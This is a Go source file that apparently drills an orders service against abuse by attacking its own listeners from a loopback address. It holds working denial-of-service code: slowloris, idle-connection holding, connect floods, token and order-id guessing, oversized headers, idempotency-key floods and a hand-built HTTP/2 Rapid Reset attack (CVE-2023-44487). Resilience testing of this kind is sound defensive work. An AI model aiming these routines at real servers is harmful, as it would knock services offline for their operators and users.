package drill

import (
	"bufio"
	"context"
	"crypto/rand"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"strconv"
	"strings"
	"time"
)

// attackers is how many connections a flood works on at once.
const attackers = 32

// perSecond paces a flood: the machine attacks itself, and what an attacker
// computes is not to be blamed on the attacked.
const perSecond = 1500

// hugePerSecond is the pace where each piece is 128 KB: some 300 Mbit/s, which
// leaves the machine time for more than copying what the attacker sends.
const hugePerSecond = 300

// from dials as an address that no healthy client has.
func from(ctx context.Context, addr string) (net.Conn, error) {
	d := net.Dialer{Timeout: 5 * time.Second, LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 66, 6)}}
	return d.DialContext(ctx, "tcp", addr)
}

// repeat does something again and again, so many times a second, until ctx ends.
func (t *target) repeat(ctx context.Context, pace int, do func() error) {
	tokens := make(chan struct{})
	go func() {
		defer close(tokens)
		tick := time.NewTicker(time.Second / time.Duration(pace))
		defer tick.Stop()
		for {
			select {
			case <-ctx.Done():
				return
			case <-tick.C:
			}
			select {
			case tokens <- struct{}{}:
			case <-ctx.Done():
				return
			}
		}
	}()
	_ = parallel(ctx, attackers, attackers, func(int) error { // it ends with ctx
		for range tokens {
			t.tried.Add(1)
			if do() != nil {
				t.refused.Add(1)
			}
		}
		return nil
	})
}

// hold opens connections and keeps each as keep does until it is cut or ctx ends.
func (t *target) hold(ctx context.Context, addrs []string, keep func(net.Conn) error) {
	_ = parallel(ctx, t.flood, t.flood, func(i int) error { // it ends with ctx
		conn, err := from(ctx, addrs[i%len(addrs)])
		t.tried.Add(1)
		if err != nil {
			t.refused.Add(1)
			return nil
		}
		defer conn.Close()
		stop := context.AfterFunc(ctx, func() { reset(conn) })
		defer stop()
		if keep(conn) != nil && ctx.Err() == nil {
			t.refused.Add(1) // it was cut
		}
		return nil
	})
}

// slowloris sends heads that never end, to every listener.
func slowloris(ctx context.Context, t *target) {
	t.hold(ctx, []string{t.public, t.admin, t.bank}, func(conn net.Conn) error {
		if _, err := io.WriteString(conn, "GET /v1/orders HTTP/1.1\r\nHost: x\r\n"); err != nil {
			return err
		}
		for {
			if err := rest(ctx, 500*time.Millisecond); err != nil {
				return err
			}
			if _, err := io.WriteString(conn, "X: y\r\n"); err != nil {
				return err
			}
		}
	})
}

// idleConnections say nothing at all.
func idleConnections(ctx context.Context, t *target) {
	t.hold(ctx, []string{t.public, t.admin, t.bank}, func(conn net.Conn) error {
		_, err := conn.Read(make([]byte, 1))
		return err
	})
}

func floodOfConnects(ctx context.Context, t *target) {
	t.repeat(ctx, perSecond, func() error {
		conn, err := from(ctx, t.public)
		if err != nil {
			return err
		}
		reset(conn)
		return nil
	})
}

// ask makes one request on a connection of its own and reads the first line of
// the answer.
func (t *target) ask(ctx context.Context, request string) error {
	conn, err := from(ctx, t.public)
	if err != nil {
		return err
	}
	defer conn.Close()
	stop := context.AfterFunc(ctx, func() { reset(conn) })
	defer stop()
	if _, err := io.WriteString(conn, request); err != nil {
		return err // cut
	}
	head, err := bufio.NewReader(conn).ReadString('\n')
	if err != nil {
		return err // cut
	}
	fields := strings.Fields(head)
	if len(fields) < 2 {
		return fmt.Errorf("%q", head)
	}
	status, err := strconv.Atoi(fields[1])
	if err != nil || status >= 400 {
		return fmt.Errorf("%q", head)
	}
	t.served.Add(1)
	return nil
}

func badTokens(ctx context.Context, t *target) {
	t.repeat(ctx, perSecond, func() error {
		return t.ask(ctx, "GET /v1/orders HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer sk_test_"+rand.Text()+"\r\n\r\n")
	})
}

// randomOrders and randomWatchers guess ids with a good key: that of a merchant
// who is curious.
func randomOrders(ctx context.Context, t *target) {
	t.repeat(ctx, perSecond, func() error {
		return t.ask(ctx, "GET /v1/orders/ord_"+strings.ToLower(rand.Text())+" HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer "+t.rig.other+"\r\n\r\n")
	})
}

func randomWatchers(ctx context.Context, t *target) {
	t.repeat(ctx, perSecond, func() error {
		return t.ask(ctx, "GET /v1/orders/ord_"+strings.ToLower(rand.Text())+"/events HTTP/1.1\r\nHost: x\r\nAccept: text/event-stream\r\nAuthorization: Bearer "+t.rig.other+"\r\n\r\n")
	})
}

// hugeHeaders are eight times as long as is allowed.
func hugeHeaders(ctx context.Context, t *target) {
	huge := strings.Repeat("a", 128<<10)
	t.repeat(ctx, hugePerSecond, func() error {
		return t.ask(ctx, "GET /v1/orders HTTP/1.1\r\nHost: x\r\nConnection: close\r\nX-Huge: "+huge+"\r\n\r\n")
	})
}

// idempotencyKeys sends a new key with every write, from a client that may write.
func idempotencyKeys(ctx context.Context, t *target) {
	t.repeat(ctx, perSecond, func() error {
		body := `{"reference":"x","currency":"EUR","items":[]}` // never accepted
		return t.ask(ctx, "POST /v1/orders HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer "+t.rig.other+"\r\nIdempotency-Key: "+rand.Text()+
			"\r\nContent-Type: application/json\r\nContent-Length: "+strconv.Itoa(len(body))+"\r\n\r\n"+body)
	})
}

// rapidResets opens HTTP/2 streams and resets each at once (CVE-2023-44487).
func rapidResets(ctx context.Context, t *target) {
	const connections = 8
	_ = parallel(ctx, connections, connections, func(int) error { // it ends with ctx
		for ctx.Err() == nil {
			if err := resetStreams(ctx, t); err != nil {
				t.refused.Add(1)
				_ = rest(ctx, 20*time.Millisecond) // ctx is asked in any case
			}
		}
		return nil
	})
}

// resetStreams goes on until the server has had enough, which is an error.
func resetStreams(ctx context.Context, t *target) error {
	raw, err := from(ctx, t.secure)
	if err != nil {
		return err
	}
	conn := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}) // it is an attacker
	defer conn.Close()
	stop := context.AfterFunc(ctx, func() { reset(raw) })
	defer stop()
	if err := conn.HandshakeContext(ctx); err != nil {
		return err
	}
	go func() { _, _ = io.Copy(io.Discard, conn) }() // it ends with the connection
	if _, err := io.WriteString(conn, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"); err != nil {
		return err
	}
	if _, err := conn.Write(frame(4, 0, 0, nil)); err != nil { // SETTINGS
		return err
	}
	for stream := uint32(1); stream < 1<<20; stream += 2 {
		// :method GET, :scheme https and :path / by their places in the static table, and
		// :authority x in full.
		head := frame(1, 5, stream, []byte{0x82, 0x87, 0x84, 0x41, 1, 'x'})
		if _, err := conn.Write(append(head, frame(3, 0, stream, []byte{0, 0, 0, 8})...)); err != nil { // RST_STREAM, CANCEL
			return err
		}
		t.tried.Add(1)
		if stream%64 == 1 {
			if err := rest(ctx, 10*time.Millisecond); err != nil {
				return nil
			}
		}
	}
	return nil
}

// frame is one of HTTP/2 (RFC 9113 section 4.1).
func frame(kind, flags byte, stream uint32, body []byte) []byte {
	head := binary.BigEndian.AppendUint32(nil, uint32(len(body))<<8|uint32(kind))
	head = append(head, flags)
	return append(binary.BigEndian.AppendUint32(head, stream), body...)
}
